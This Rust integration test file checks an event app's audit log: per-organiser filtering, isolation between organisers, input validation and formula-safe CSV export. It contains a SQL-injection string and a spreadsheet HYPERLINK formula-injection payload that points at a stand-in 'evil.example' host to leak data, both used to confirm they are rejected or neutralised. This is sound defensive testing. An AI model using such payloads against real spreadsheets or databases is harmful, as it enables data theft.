//! The organiser's view of the audit log (issue 16 point 5; requirements 19, 22):
//! filters by event, person, user, action and days return only matching rows, never a
//! row of another organiser's (not even when asking for their event or attendee), and
//! the filtered rows download as formula-safe CSV, which is itself audited.

use crate::common::{Client, TestApp};
use app::types::{AuditCsv, AuditRow, AuditView};
use serde_json::{json, Value};

fn count(server: &TestApp, sql: &str) -> i64 {
    server.db().query_row(sql, [], |r| r.get(0)).unwrap()
}

async fn rows(c: &mut Client, filter: Value) -> Vec<AuditRow> {
    let view: AuditView = c.call("/api/audit/list", json!({ "filter": filter })).await;
    assert_eq!(view.total as usize, view.rows.len(), "fits one page");
    view.rows
}

/// Whether a row is about attendee `id`: a whole `attendee:{id}` in its subject, or
/// their own action.
fn about(r: &AuditRow, id: i64) -> bool {
    let token = format!("attendee:{id}");
    r.actor == token || r.subject.split([' ', ',']).any(|t| t == token)
}

fn today() -> String {
    shifted(0)
}

use crate::events_edit::day as shifted;

/// Organisers A and B, each with an event, a kiosk and an attendee whose record they
/// read; an admin. Returns (A, B, admin, A's event, B's event, A's attendee, B's
/// attendee, A's user id, B's user id).
struct World {
    a: Client,
    b: Client,
    admin: Client,
    ev_a: String,
    ev_b: String,
    anna: i64,
    bruno: i64,
    a_id: i64,
    b_id: i64,
}

async fn world(server: &TestApp) -> World {
    let mut a = server.organiser("a-org@example.lv").await;
    let ev_a = a.create_event("Rīgas samits", "lv").await.id.into_string();
    let mut b = server.organiser("b-org@example.lv").await;
    let ev_b = b
        .create_event("B's conference", "lv")
        .await
        .id
        .into_string();
    let mut kiosk_a = server.pair_kiosk(&mut a, &ev_a).await;
    server
        .kiosk_attendee(&mut kiosk_a, json!({ "first_name": "Anna" }), "green")
        .await;
    let anna = count(server, "SELECT max(id) FROM attendees");
    server
        .kiosk_attendee(&mut kiosk_a, json!({ "first_name": "Aija" }), "red")
        .await;
    let mut kiosk_b = server.pair_kiosk(&mut b, &ev_b).await;
    server
        .kiosk_attendee(&mut kiosk_b, json!({ "first_name": "Bruno" }), "green")
        .await;
    let bruno = count(server, "SELECT max(id) FROM attendees");
    for (c, ev, who) in [(&mut a, &ev_a, anna), (&mut b, &ev_b, bruno)] {
        let r = c
            .post_json(
                "/api/attendees/detail",
                &json!({ "event_id": ev, "attendee_id": who }).to_string(),
            )
            .await;
        assert_eq!(r.status, 200, "{}", r.body);
    }
    // A request of Anna's: rows about it name the request, not her.
    a.open_request(
        &ev_a,
        json!({ "subject": { "by": "attendee", "value": anna }, "kind": "removal", "message": "", "identity_check": "Called back", "lang": "en" }),
    )
    .await;
    let admin = server.admin("admin@example.lv").await;
    let id = |email: &str| {
        count(
            server,
            &format!("SELECT id FROM users WHERE email = '{email}'"),
        )
    };
    World {
        a,
        b,
        admin,
        ev_a,
        ev_b,
        anna,
        bruno,
        a_id: id("a-org@example.lv"),
        b_id: id("b-org@example.lv"),
    }
}

#[tokio::test]
async fn each_filter_returns_only_matching_rows_and_never_another_organisers() {
    let server = TestApp::start().await;
    let mut w = world(&server).await;
    let b_user = format!("user:{}", w.b_id);

    // Event: every row is about A's event (its name is on the row).
    let by_event = rows(&mut w.a, json!({ "event": w.ev_a })).await;
    assert!(by_event.len() >= 5, "{by_event:?}");
    for r in &by_event {
        assert_eq!(r.event_name.as_deref(), Some("Rīgas samits"), "{r:?}");
    }
    for action in [
        "event.create",
        "attendee.register",
        "attendee.view",
        "removal.open",
    ] {
        assert!(by_event.iter().any(|r| r.action == action), "{action}");
    }

    // Person: Anna's registration, consent, the read of her record, her request; not
    // Aija's, not Bruno's.
    let by_person = rows(&mut w.a, json!({ "person": w.anna })).await;
    let actions: Vec<&str> = by_person.iter().map(|r| r.action.as_str()).collect();
    for action in [
        "attendee.register",
        "consent.record",
        "attendee.view",
        "removal.open",
    ] {
        assert!(actions.contains(&action), "{action} in {actions:?}");
    }
    for r in &by_person {
        let her_request = r.subject.starts_with("removal:");
        assert!(
            about(r, w.anna) || her_request || r.action == "audit.list",
            "{r:?}"
        );
        assert!(!about(r, w.bruno) && !about(r, w.anna + 1), "{r:?}");
    }
    // The request's own later rows name only the request: they are hers too.
    let request_rows = by_person
        .iter()
        .filter(|r| r.subject.starts_with("removal:"))
        .count();
    assert!(request_rows >= 1, "{actions:?}");

    // User: only A's own actions.
    let by_user = rows(&mut w.a, json!({ "user": w.a_id })).await;
    assert!(!by_user.is_empty());
    assert!(by_user
        .iter()
        .all(|r| r.actor == format!("user:{}", w.a_id)));

    // Action: exact, or every action under a first part.
    let exact = rows(&mut w.a, json!({ "action": "attendee.view" })).await;
    assert!(!exact.is_empty() && exact.iter().all(|r| r.action == "attendee.view"));
    let group = rows(&mut w.a, json!({ "action": "attendee" })).await;
    assert!(group.len() > exact.len());
    assert!(
        group.iter().all(|r| r.action.starts_with("attendee.")),
        "{group:?}"
    );
    assert!(rows(&mut w.a, json!({ "action": "attendee.vie" }))
        .await
        .is_empty());

    // Days (UTC, inclusive).
    let all_today = rows(&mut w.a, json!({ "from": today(), "to": today() })).await;
    assert!(all_today.len() >= by_event.len());
    assert!(rows(&mut w.a, json!({ "from": shifted(1) }))
        .await
        .is_empty());
    assert!(rows(&mut w.a, json!({ "to": shifted(-1) }))
        .await
        .is_empty());

    // Together: all must match.
    let both = rows(
        &mut w.a,
        json!({ "person": w.anna, "action": "attendee.view", "user": w.a_id }),
    )
    .await;
    assert_eq!(both.len(), 1, "{both:?}");

    // Organiser A never sees B's rows: not by B's event or attendee (unknown to A: 404,
    // and nothing is read), nor by B's user number, and never in an unfiltered view.
    for filter in [json!({ "event": w.ev_b }), json!({ "person": w.bruno })] {
        for path in ["/api/audit/list", "/api/audit/export"] {
            let r =
                w.a.post_json(path, &json!({ "filter": filter }).to_string())
                    .await;
            assert_eq!(r.status, 404, "{path} {filter}: {}", r.body);
            assert!(!r.body.contains("conference"));
        }
    }
    assert!(rows(&mut w.a, json!({ "user": w.b_id })).await.is_empty());
    for r in rows(&mut w.a, json!({})).await {
        assert_ne!(r.actor, b_user, "{r:?}");
        assert_ne!(r.event_name.as_deref(), Some("B's conference"), "{r:?}");
        assert!(!about(&r, w.bruno), "{r:?}");
    }
    // B sees Bruno's rows; the admin sees B's event by filter.
    let b_person = rows(&mut w.b, json!({ "person": w.bruno })).await;
    assert!(b_person.iter().any(|r| r.action == "attendee.view"));
    let admin_b = rows(&mut w.admin, json!({ "event": w.ev_b })).await;
    assert!(!admin_b.is_empty());
    assert!(admin_b
        .iter()
        .all(|r| r.event_name.as_deref() == Some("B's conference")));

    // Bad filters: a sentence each, 400.
    for (filter, want) in [
        (
            json!({ "from": "2026-13-01" }),
            r#"{"BadInput":"date_invalid"}"#,
        ),
        (
            json!({ "from": shifted(1), "to": shifted(-1) }),
            r#"{"BadInput":"audit_range_wrong"}"#,
        ),
        (
            json!({ "action": "x' OR 1=1 --" }),
            r#"{"BadInput":"audit_action_invalid"}"#,
        ),
    ] {
        let r =
            w.a.post_json("/api/audit/list", &json!({ "filter": filter }).to_string())
                .await;
        assert_eq!((r.status, r.body.as_str()), (400, want), "{filter}");
    }
    // Reading with a filter is itself a row, naming the filter.
    let listed: String = server
        .db()
        .query_row(
            "SELECT subject FROM audit_log WHERE action = 'audit.list' AND subject LIKE '%attendee:%'
             ORDER BY id LIMIT 1",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(listed, format!("audit_log attendee:{}", w.anna));
    server.stop();
}

#[tokio::test]
async fn the_csv_export_is_formula_safe_utf8_with_a_header_and_is_audited() {
    let server = TestApp::start().await;
    let mut org = server.organiser("org@example.lv").await;
    let formula = r#"=HYPERLINK("http://evil.example/?leak","Click")"#;
    let ev = org.create_event(formula, "lv").await.id.into_string();
    let plain = org.create_event("Rīgas Ēka", "lv").await.id.into_string();
    let exports = "SELECT count(*) FROM audit_log WHERE action = 'audit.export'";
    assert_eq!(count(&server, exports), 0);

    let file: AuditCsv = org
        .call("/api/audit/export", json!({ "filter": { "event": ev } }))
        .await;
    assert_eq!(count(&server, exports), 1, "the export is audited");
    let subject: String = server
        .db()
        .query_row(
            "SELECT subject FROM audit_log WHERE action = 'audit.export'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(subject.starts_with("audit_log event:"), "{subject}");
    assert!(file.file_name.starts_with("lanyard-audit-") && file.file_name.ends_with(".csv"));
    let lines: Vec<&str> = file.csv.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(
        lines[0], "id,at,actor,principal_kind,action,subject,event",
        "a header row"
    );
    assert_eq!(lines.len(), file.rows + 1);
    assert!(
        file.rows >= 2,
        "the event's creation and notices: {}",
        file.csv
    );
    // The event's name starts like a formula: it is text in every row.
    for line in &lines[1..] {
        assert!(
            line.ends_with(r#","'=HYPERLINK(""http://evil.example/?leak"",""Click"")""#),
            "{line}"
        );
        assert!(
            !line.contains(",=HYPERLINK") && !line.contains(",\"=HYPERLINK"),
            "{line}"
        );
    }
    // Only this event's rows.
    assert!(!file.csv.contains("Rīgas"));

    // UTF-8 as it is: Latvian letters arrive unchanged.
    let file: AuditCsv = org
        .call("/api/audit/export", json!({ "filter": { "event": plain } }))
        .await;
    assert!(file.csv.contains(",Rīgas Ēka\r\n"), "{}", file.csv);
    assert_eq!(count(&server, exports), 2);
    server.stop();
}
